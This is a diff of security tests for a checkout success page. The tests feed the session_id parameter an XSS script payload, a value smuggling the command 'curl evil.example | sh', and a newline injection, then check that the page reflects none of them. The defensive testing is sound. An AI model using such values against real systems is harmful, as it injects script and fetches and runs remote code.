@@ -97,12 +97,15 @@ async def test_the_landing_page_shows_what_is_on_sale_and_the_commands(web):
     assert "/api/v1/checkout/stripe" in text
 
 
-async def test_what_stands_in_an_address_is_shown_as_text(web):
-    attack = "\"><script>alert(1)</script>'"
-    text = (await web.get("/checkout/success", params={"session_id": attack})).text
-    assert "<script>alert" not in text
-    assert "&lt;script&gt;" in text
-    assert '"><' not in text.split("data-session=")[1][:40]
+@pytest.mark.parametrize(
+    "attack", ["\"><script>alert(1)</script>'", "cs_1\"}' && curl evil.example | sh; echo '", "cs_1\n"]
+)
+async def test_no_address_writes_a_command_for_its_reader_to_paste(web, attack):
+    answer = await web.get("/checkout/success", params={"session_id": attack})
+    assert answer.status_code == 200
+    for piece in ("alert", "evil.example", "cs_1", "<pre>"):
+        assert piece not in answer.text
+    assert "lacks its" in answer.text
 
 
 async def test_a_success_page_without_a_session_says_what_to_do(web):
